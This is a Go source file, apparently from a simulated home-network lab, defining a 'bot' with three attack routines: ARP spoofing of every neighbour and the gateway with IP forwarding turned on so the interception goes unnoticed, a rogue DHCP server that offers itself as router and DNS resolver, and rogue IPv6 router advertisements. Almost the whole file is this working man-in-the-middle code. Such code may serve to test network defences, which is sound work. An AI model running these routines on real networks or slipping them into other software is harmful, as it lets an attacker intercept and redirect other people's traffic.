package bot

import (
	"context"
	"math/rand/v2"
	"net"
	"net/netip"
	"time"

	"cardea/home"
	"cardea/lab/device"
	"cardea/lab/frame"

	"github.com/insomniacslk/dhcp/dhcpv4"
)

// spoofARP tells every neighbour that it is the gateway and the gateway that it is every neighbour, and passes on what it
// gets, so that nobody notices.
func spoofARP(b *Bot, ctx context.Context, r *rand.Rand) error {
	router, ok := b.routerMAC(ctx)
	if !ok {
		return nil
	}
	if err := b.Device.Space.Sysctl("net/ipv4/ip_forward", "1"); err != nil {
		return err
	}
	defer func() { _ = b.Device.Space.Sysctl("net/ipv4/ip_forward", "0") }()
	c, err := frame.Open(b.Device.Space, device.Iface, nil)
	if err != nil {
		return err
	}
	defer c.Close()
	for {
		gateway, own := b.Device.Lease().Router, b.Device.HardwareAddr()
		for _, d := range b.Plan.Devices {
			if d.Name == b.Device.Name || !gateway.IsValid() {
				continue
			}
			_, _ = c.Write(frame.ARP(frame.ARPReply, own, d.MAC, own, gateway, d.MAC, d.IPv4))
			_, _ = c.Write(frame.ARP(frame.ARPReply, own, router, own, d.IPv4, router, gateway))
		}
		if !sleep(ctx, time.Duration(300+r.IntN(500))*time.Millisecond) {
			return nil
		}
	}
}

// serveDHCP answers the neighbours' DHCP and offers the device itself as their router and resolver.
func serveDHCP(b *Bot, ctx context.Context, r *rand.Rand) error {
	c, err := frame.Open(b.Device.Space, device.Iface, frame.Keep(2048, false, []uint16{67}, nil))
	if err != nil {
		return err
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	buf := make([]byte, 2048)
	for {
		got, err := c.Read(buf)
		if err != nil {
			if ctx.Err() == nil && sleep(ctx, 100*time.Millisecond) {
				continue // the link went down for a moment
			}
			return nil
		}
		if got.Out || got.Len < 42 {
			continue
		}
		q, err := dhcpv4.FromBytes(buf[42:got.Len]) // Ethernet 14, IPv4 20, UDP 8
		if err != nil || q.OpCode != dhcpv4.OpcodeBootRequest {
			continue
		}
		if f := b.falseOffer(q); f != nil {
			_, _ = c.Write(f)
		}
	}
}

func (b *Bot) falseOffer(q *dhcpv4.DHCPv4) []byte {
	l := b.Device.Lease()
	own := l.Addr.Addr()
	kind := dhcpv4.MessageTypeOffer
	switch id := q.ServerIdentifier(); {
	case !own.IsValid() || len(q.ClientHWAddr) != 6:
		return nil
	case q.MessageType() == dhcpv4.MessageTypeRequest && id != nil && id.Equal(own.AsSlice()):
		kind = dhcpv4.MessageTypeAck
	case q.MessageType() != dhcpv4.MessageTypeDiscover:
		return nil
	}
	addr := own.As4()
	addr[3] = 91 + q.ClientHWAddr[5]%8 // outside of the real server's pool
	ip := net.IP(own.AsSlice())
	reply, err := dhcpv4.NewReplyFromRequest(q, dhcpv4.WithMessageType(kind), dhcpv4.WithYourIP(net.IP(addr[:])),
		dhcpv4.WithOption(dhcpv4.OptServerIdentifier(ip)), dhcpv4.WithOption(dhcpv4.OptIPAddressLeaseTime(time.Hour)),
		dhcpv4.WithOption(dhcpv4.OptSubnetMask(net.CIDRMask(l.Addr.Bits(), 32))), dhcpv4.WithRouter(ip), dhcpv4.WithDNS(ip))
	if err != nil {
		return nil
	}
	to := netip.AddrPortFrom(netip.AddrFrom4([4]byte{255, 255, 255, 255}), 68)
	return frame.UDP(b.Device.HardwareAddr(), home.Broadcast, netip.AddrPortFrom(own, 67), to, reply.ToBytes())
}

// serveRA advertises the device as a router that is preferred to the real one, with a prefix of its own.
func serveRA(b *Bot, ctx context.Context, r *rand.Rand) error {
	c, err := frame.Open(b.Device.Space, device.Iface, nil)
	if err != nil {
		return err
	}
	defer c.Close()
	prefix := netip.AddrFrom16([16]byte{0x20, 0x01, 0x0d, 0xb8, 0xbad >> 8, 0xbad & 0xff, byte(r.IntN(256)), byte(r.IntN(256))})
	for {
		for _, own := range b.Device.Addrs6() {
			if own.IsLinkLocalUnicast() {
				_, _ = c.Write(frame.RouterAdvert(b.Device.HardwareAddr(), own, prefix))
				break
			}
		}
		if !sleep(ctx, time.Duration(400+r.IntN(500))*time.Millisecond) {
			return nil
		}
	}
}
